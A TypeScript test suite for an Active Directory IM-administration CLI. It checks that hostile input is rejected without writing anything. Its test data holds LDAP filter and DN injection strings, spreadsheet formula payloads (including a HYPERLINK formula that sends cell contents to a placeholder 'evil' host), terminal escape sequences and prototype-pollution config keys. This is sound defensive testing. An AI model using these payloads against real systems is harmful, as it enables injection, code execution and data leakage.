/**
 * Hostile input against the lab DC: filter and DN injection attempts in user and server names
 * (command line and CSV), malformed CSV files, garbage config files, and directory data made to
 * attack the admin's terminal. Each must end in a clear error and write nothing — checked with
 * ldapsearch: the domain's highestCommittedUSN does not move — and reports must never hold a cell
 * a spreadsheet would execute.
 */
import { randomBytes } from 'node:crypto';
import { closeSync, existsSync, openSync, readFileSync, readdirSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { canonicalDn } from '../../src/core/escape.js';
import { isFormulaLike } from '../../src/core/spreadsheet-safe.js';
import {
  addUsers,
  createOu,
  imctlEnv,
  lab,
  ldapsearch,
  readEntry,
  scratchDir,
  server,
  type RunResult,
} from '../support/lab.js';
import { imctlHere } from '../support/in-process.js';

/** Anything a terminal would act on: C0/C1 controls other than newline and tab, DEL, bidi overrides and isolates. */
const TERMINAL_UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/u;

async function highestUsn(): Promise<number> {
  const root = await ldapsearch('', '(objectClass=*)', ['highestCommittedUSN'], 'base');
  return Number(root[0]!.attrs.highestcommittedusn![0]);
}

/** Another vitest run on this machine may write to the lab at the same time (a developer's second terminal; never in CI). */
function otherRunsActive(): boolean {
  const dir = join(lab().labDir, 'test-runs');
  if (!existsSync(dir)) return false;
  return readdirSync(dir)
    .map(Number)
    .filter((pid) => pid && pid !== process.pid && pid !== process.ppid)
    .some((pid) => {
      try {
        process.kill(pid, 0);
        return true;
      } catch {
        return false;
      }
    });
}

let ou: string;

/** Something else is writing to the lab right now (another test run, a benchmark seeding it): never the case in CI. */
async function someoneElseWriting(): Promise<boolean> {
  if (otherRunsActive()) return true;
  const a = await highestUsn();
  await new Promise((r) => setTimeout(r, 700));
  return (await highestUsn()) !== a;
}

/**
 * Run imctl and assert that the directory did not change at all: the domain's highest committed
 * USN is the same before and after. Only when something else demonstrably writes to the lab at
 * the same time (never in CI) does this fall back to "no entry of ours and no IM attribute changed".
 */
async function writesNothing(run: () => Promise<RunResult>): Promise<RunResult> {
  const before = await highestUsn();
  const result = await run();
  const after = await highestUsn();
  if (after !== before) {
    const changed = await ldapsearch(
      lab().baseDn,
      `(&(uSNChanged>=${before + 1})(|(msExchIMAddress=*)(msExchIMVirtualServer=*)(objectClass=user)))`,
      ['1.1'],
    );
    const ours = changed.filter((e) => e.dn.toLowerCase().endsWith(ou.toLowerCase()));
    expect(
      ours.map((e) => e.dn),
      'entries of this test changed',
    ).toEqual([]);
    expect(
      await someoneElseWriting(),
      `the directory changed (USN ${before} → ${after}, ${changed.length} user entries) and nothing else is writing to the lab`,
    ).toBe(true);
  }
  return result;
}

/** Where `text` holds a character a terminal would act on, with some context (null when clean). */
function unsafeAt(text: string): string | null {
  const m = TERMINAL_UNSAFE.exec(text);
  return m ? JSON.stringify(text.slice(Math.max(0, m.index - 60), m.index + 20)) : null;
}

function expectClean(result: RunResult): void {
  expect(unsafeAt(result.stdout), 'stdout holds a character a terminal would act on').toBeNull();
  expect(unsafeAt(result.stderr), 'stderr holds a character a terminal would act on').toBeNull();
  expect(result.stderr).not.toMatch(/unexpected failure|\n\s+at .*\.js:\d+/); // no stack traces
}

const LONG = 'a'.repeat(10_000);

/** Names an attacker (or a careless spreadsheet) might feed imctl: none may match anyone. */
const HOSTILE_NAMES: [label: string, name: string][] = [
  ['filter break-out', '*)(objectClass=*'],
  ['a lone wildcard', '*'],
  ['a lone backslash', '\\'],
  ['an OR injection', ')(|(sAMAccountName=*'],
  ['a closed OR injection', 'hv-plain)(|(sAMAccountName=*))'],
  ['a prefix wildcard', 'hv-*'],
  ['an escaped wildcard typed literally', 'hv-plain\\2a'],
  ['a wildcard UPN', '*@lab.imctl.test'],
  ['a wildcard DN', 'CN=*,OU=Staff,DC=lab,DC=imctl,DC=test'],
  ['a DN with an injected RDN', 'CN=hv-plain,OU=x)(objectClass=*,DC=lab,DC=imctl,DC=test'],
  ['a NetBIOS wildcard', 'LAB\\*'],
  ['10,000 characters', LONG],
  ['an RTL override', '\u202Enialp-vh'],
  ['combining characters', 'hv-pla\u0301in\u0308'],
  ['a formula', "=cmd|' /C calc'!A0"],
  ['an escape sequence', 'hv-plain\x1b[2J\x1b]0;owned\x07'],
];

describe('hostile input (against the lab DC)', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let plainDn: string;
  let enabledDn: string;

  beforeAll(async () => {
    ou = await createOu('hostile');
    dir = scratchDir('imctl-hostile-');
    env = imctlEnv();
    [plainDn, enabledDn] = (await addUsers(ou, [
      { sam: 'hv-plain', cn: 'Plain, Victim' },
      // Directory data written to attack a terminal: a display name with escape sequences and an RTL override.
      {
        sam: 'hv-enabled',
        cn: '\u202EEvil Name',
        im: { server: server('im-south') },
        extra: { displayName: 'Evil\x1b]0;owned\x07\x1b[2J\x1b[1A\rOK\u202Eexe.txt' },
      },
    ])) as [string, string];
  });

  describe.each([
    ['enable', ['--server', 'im-south']],
    ['disable', []],
    ['move', ['--to', 'im-north']],
  ] as const)('imctl %s with hostile names on the command line', (command, extra) => {
    it('matches no one, says so for each name, writes nothing (exit 2: the batch is refused whole)', async () => {
      const names = HOSTILE_NAMES.map(([, name]) => name);
      const result = await writesNothing(() => imctlHere([command, ...names, ...extra, '--yes', '--json'], { env }));
      expect(result.code, result.stderr).toBe(2);
      const data = result.json();
      expect(data.error.reason).toBe('invalid-targets');
      expect(data.problems).toHaveLength(names.length);
      for (const [i, [label]] of HOSTILE_NAMES.entries()) {
        // DOMAIN\user of a domain that is not this one is refused as such, never looked up here.
        expect(data.problems[i].reason, label).toMatch(
          label === 'an escaped wildcard typed literally'
            ? /^"hv-plain\\2a" names a user of the domain "hv-plain", and this is "LAB"/
            : label === 'a wildcard UPN'
              ? // A name with @ is looked up as a UPN, mail or IM address, each as a literal value.
                /^no user has "\*@lab\.imctl\.test" as UPN, mail or IM address/
              : /^no user is named /,
        );
      }
      // The 10,000-character name is cut in the message, not echoed whole.
      expect(data.problems[HOSTILE_NAMES.findIndex(([l]) => l === '10,000 characters')].reason).toMatch(
        /…" \(10000 characters\)/,
      );
      expect(result.stderr.length).toBeLessThan(20_000);
      expectClean(result);
    });
  });

  it('imctl show with a hostile name: a clear error on one line, exit 2, nothing written', async () => {
    for (const name of ['*)(objectClass=*', '*', ')(|(sAMAccountName=*', LONG, '\u202Enialp-vh\x1b[2J']) {
      const result = await writesNothing(() => imctlHere(['show', name], { env }));
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(/^error: Cannot show .*no user is named/);
      expect(result.stderr.trim().split('\n')).toHaveLength(1);
      expect(result.stderr.length).toBeLessThan(600);
      expectClean(result);
    }
  });

  it('hostile server names: no server matches, a clear error, exit 2, nothing written', async () => {
    const cases: [string[], RegExp][] = [
      [['enable', 'hv-plain', '--server', '*'], /No IM server is named "\*"/],
      [['enable', 'hv-plain', '--server', '*)(objectClass=*'], /No IM server is named/],
      [['move', 'hv-enabled', '--to', `${server('im-north').dn})(objectClass=*`], /No IM server is named/],
      [['move', 'hv-enabled', '--to', LONG], /No IM server is named "a{100}…" \(10000 characters\)/],
      [['users', '--server', '\u202Ehtron-mi'], /No IM server is named "\\u202ehtron-mi"/],
    ];
    for (const [args, message] of cases) {
      const result = await writesNothing(() =>
        imctlHere(
          [...args, '--yes'].filter((a) => a !== '--yes' || args[0] !== 'users'),
          { env },
        ),
      );
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(message);
      expectClean(result);
    }
  });

  it('names that are real but full of filter and DN metacharacters resolve to exactly their own entry (dry run: nothing written)', async () => {
    const special = lab().specialUsers.filter((u) =>
      ['sstar', 'ptest', 'bslash', 'qname', 'htag', 'aplusminus'].includes(u.sam),
    );
    expect(special.length).toBe(6);
    const result = await writesNothing(() =>
      imctlHere(['disable', ...special.map((u) => u.dn), '--dry-run', '--json'], { env }),
    );
    expect(result.code, result.stderr).toBe(0);
    const rows = result.json().results as { user: string; dn: string | null; outcome: string }[];
    expect(rows).toHaveLength(special.length);
    for (const row of rows) {
      // The DN as the server spells it (Samba writes `\3B` for `\;`) names the entry given.
      expect(canonicalDn(row.dn ?? ''), row.user).toBe(canonicalDn(row.user));
      expect(['planned', 'unchanged']).toContain(row.outcome);
    }
  });

  it('directory data made to attack the terminal (escape sequences, RTL override) is shown inert', async () => {
    const shown = await imctlHere(['show', 'hv-enabled'], { env });
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).toMatch(/\\x1b\]0;owned\\x07/);
    expect(shown.stdout).toMatch(/\\u202e/);
    expectClean(shown);
    const listed = await imctlHere(['users', '--server', 'im-south'], { env });
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toMatch(/hv-enabled/);
    expectClean(listed);
    // In JSON the value is exact (escaped by JSON itself), for scripts.
    const json = await imctlHere(['show', 'hv-enabled', '--json'], { env });
    expect(json.json().displayName).toBe('Evil\x1b]0;owned\x07\x1b[2J\x1b[1A\rOK\u202Eexe.txt');
    expect(json.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/u);
    expect(enabledDn).toBeTruthy();
  });

  describe('CSV import', () => {
    const csv = (name: string, content: string | Buffer) => {
      const path = join(dir, name);
      writeFileSync(path, content);
      return path;
    };

    it('injection attempts in the user and server columns, NUL, RTL and formula cells: every bad line named, nothing written, exit 2, a report with no executable cell', async () => {
      const rows: [string, string][] = [
        ['hv-plain', 'im-south'], // 2: valid
        ['*)(objectClass=*', 'im-south'], // 3
        ['*', 'im-south'], // 4
        ['\\', 'im-south'], // 5
        [')(|(sAMAccountName=*', 'im-south'], // 6
        ['hv-*', 'im-south'], // 7
        ["=cmd|' /C calc'!A0", 'im-south'], // 8
        ["+SUM(1+1)*cmd|' /C calc'!A0", 'im-south'], // 9
        ['@SUM(A1)', 'im-south'], // 10
        ['-2+3', 'im-south'], // 11
        ['hv-pla\u0301in', 'im-south'], // 12: combining accent: a different name
        ['\u202Enialp-vh', 'im-south'], // 13: RTL override: refused as invisible
        ['hv\u0000plain', 'im-south'], // 14: NUL
        ['hv-enabled', '*'], // 15: server wildcard
        ['hv-enabled', '*)(objectClass=*'], // 16
        ['hv-enabled', '=HYPERLINK("http://evil/"&A1)'], // 17
        [LONG, 'im-south'], // 18: 10,000 characters
        ['hv-enabled', 'im-so\u0000uth'], // 19: NUL in the server
        ['hv-enabled', LONG], // 20: a 10,000-character server
        ['hv-enabled', '\u202Ehtuos-mi'], // 21: RTL override in the server
        ['hv-enabled', 'im-sou\u0301th'], // 22: combining accent in the server
      ];
      const text =
        'user,action,server\n' +
        rows.map(([u, s]) => `"${u.replace(/"/g, '""')}",enable,"${s.replace(/"/g, '""')}"`).join('\n') +
        '\n';
      const file = csv('hostile.csv', text);
      for (const ext of ['csv', 'json']) {
        const report = join(dir, `hostile-report.${ext}`);
        const result = await writesNothing(() => imctlHere(['import', file, '--yes', '--report', report], { env }));
        expect(result.code, result.stderr).toBe(2);
        for (let line = 3; line <= 22; line++)
          expect(result.stderr, `line ${line}`).toMatch(new RegExp(`line ${line}: `));
        expect(result.stderr).not.toMatch(/line 2: /);
        expect(result.stderr).toMatch(/line 13: .*invisible character U\+202E/);
        expect(result.stderr).toMatch(/line 14: .*NUL/);
        expect(result.stderr).toMatch(/line 19: .*NUL/);
        expect(result.stderr).toMatch(/line 21: .*U\+202E/);
        expect(result.stderr).toMatch(/nothing was written/);
        expectClean(result);
        if (ext === 'csv') {
          const cells = (
            parse(readFileSync(report, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
          ).flat();
          expect(cells.length).toBeGreaterThan(21 * 6);
          const executable = cells.filter((cell) => isFormulaLike(cell));
          expect(executable, 'cells a spreadsheet would execute').toEqual([]);
          expect(cells).toContain("'=cmd|' /C calc'!A0");
        } else {
          // JSON reports keep the exact text for scripts; a spreadsheet reads JSON only through an import that types values as text.
          const entries = JSON.parse(readFileSync(report, 'utf8')) as { user: string; outcome: string }[];
          expect(entries.map((e) => e.user)).toContain("=cmd|' /C calc'!A0");
          expect(entries.find((e) => e.user === 'hv-plain')?.outcome).toBe('skipped');
        }
      }
      expect((await readEntry(plainDn, ['msExchIMAddress']))?.attrs.msexchimaddress).toBeUndefined();
    });

    const malformed: [label: string, make: () => string, message: RegExp][] = [
      [
        'an unclosed quote',
        () => csv('unclosed.csv', 'user,action\n"hv-plain,enable\nhv-enabled,disable\n'),
        /line 2: .*never closed/,
      ],
      [
        'UTF-16 with a BOM',
        () =>
          csv(
            'utf16.csv',
            Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('user,action\nhv-plain,enable\n', 'utf16le')]),
          ),
        /UTF-16/,
      ],
      [
        'UTF-16 without a BOM',
        () => csv('utf16-nobom.csv', Buffer.from('user,action\nhv-plain,enable\n', 'utf16le')),
        /NUL/,
      ],
      [
        'Latin-1 bytes',
        () =>
          csv(
            'latin1.csv',
            Buffer.concat([Buffer.from('user,action\nJos'), Buffer.from([0xe9]), Buffer.from(',enable\n')]),
          ),
        /line 2: .*not valid UTF-8/,
      ],
      [
        'binary garbage',
        () => csv('garbage.csv', Buffer.concat([Buffer.from([0x00, 0x1b, 0x5b, 0x32, 0x4a]), randomBytes(4096)])),
        /line 1|header|NUL|UTF-8|not valid/,
      ],
      [
        'a workbook',
        () => csv('book.csv', Buffer.concat([Buffer.from('504b0304', 'hex'), randomBytes(512)])),
        /workbook/,
      ],
    ];

    it.each(malformed)('%s: a clear error, exit 2, nothing written', async (_label, make, message) => {
      const result = await writesNothing(() => imctlHere(['import', make(), '--yes'], { env }));
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(message);
      expect(result.stderr.length).toBeLessThan(4000);
      expectClean(result);
    });

    it.each([
      ['as the only line', ''],
      ['after a header', 'user,action,server\n'],
    ])(
      'a 100 MB single line %s is refused after reading a few kilobytes (exit 2, nothing written)',
      async (_label, header) => {
        // Generated here, never committed: 100 MB of one line.
        const path = join(dir, `huge-${header ? 'row' : 'only'}.csv`);
        const fd = openSync(path, 'w');
        writeSync(fd, header);
        const block = Buffer.alloc(1 << 20, 'x');
        for (let i = 0; i < 100; i++) writeSync(fd, block);
        closeSync(fd);
        try {
          const started = Date.now();
          const result = await writesNothing(() => imctlHere(['import', path, '--yes'], { env }));
          expect(result.code, result.stderr).toBe(2);
          expect(result.stderr).toMatch(new RegExp(`line ${header ? 2 : 1}: .*longer than`));
          expect(Date.now() - started, 'it does not read 100 MB').toBeLessThan(15_000);
          expectClean(result);
        } finally {
          rmSync(path, { force: true });
        }
      },
    );
  });

  describe('garbage config files', () => {
    const config = (name: string, content: string | Buffer) => {
      const path = join(dir, name);
      writeFileSync(path, content);
      return path;
    };
    const cases: [label: string, make: () => string, message: RegExp][] = [
      [
        'binary',
        () => config('binary.json', Buffer.concat([Buffer.from('\x00\x1b[2J\x1b]0;owned\x07'), randomBytes(2048)])),
        /is not valid JSON; check it/,
      ],
      [
        'huge (8 MB)',
        () => config('huge.json', `{"url": "ldaps://localhost", "domain": "${'x'.repeat(8 << 20)}"}`),
        /is 8\.0 MB; .*right file/,
      ],
      [
        'deeply nested arrays',
        () => config('nested.json', '['.repeat(200_000) + ']'.repeat(200_000)),
        /not valid JSON|must hold a JSON object/,
      ],
      [
        'deeply nested under a known key',
        () =>
          config('nested-key.json', `{"servers": {"im-east": ${'{"capacity": '.repeat(5000)}1${'}'.repeat(5000)}}}`),
        /"servers" must be/,
      ],
      ['a string', () => config('string.json', '"ldaps://localhost"'), /must hold a JSON object/],
      ['null', () => config('null.json', 'null'), /must hold a JSON object/],
      ['url as a number', () => config('url.json', '{"url": 636}'), /"url" must be a URL/],
      [
        'concurrency as a string',
        () => config('conc.json', '{"concurrency": "16"}'),
        /"concurrency" must be a whole number/,
      ],
      [
        'allowCleartext as a string',
        () => config('clear.json', '{"allowCleartext": "yes", "url": "ldap://localhost"}'),
        /"allowCleartext" must be true or false/,
      ],
      [
        'a __proto__ key',
        () => config('proto.json', '{"__proto__": {"allowCleartext": true}, "url": "ldap://localhost"}'),
        /unknown key "__proto__"/,
      ],
      [
        'a constructor key',
        () => config('ctor.json', '{"constructor": {"prototype": {"insecureTls": true}}}'),
        /unknown key "constructor"/,
      ],
      ['a password key', () => config('pw.json', `{"password": "Some-Secret-1!"}`), /unknown key "password"/],
      [
        'a URL with a password in it',
        () => config('userinfo.json', '{"url": "ldaps://Administrator:Some-Secret-1!@localhost"}'),
        /"url" must be URLs without a user name or password/,
      ],
    ];

    it.each(cases)('%s: a clear error naming the file, exit 2, nothing written', async (_label, make, message) => {
      const path = make();
      const result = await writesNothing(() =>
        imctlHere(['--config', path, 'enable', 'hv-plain', '--server', 'im-south', '--yes'], { env }),
      );
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(message);
      expect(result.stderr).toContain(path);
      expect(result.stderr.trim().split('\n')).toHaveLength(1);
      expect(result.stderr.length).toBeLessThan(600);
      expect(result.stderr).not.toContain('Some-Secret-1!');
      expectClean(result);
    });
  });
});
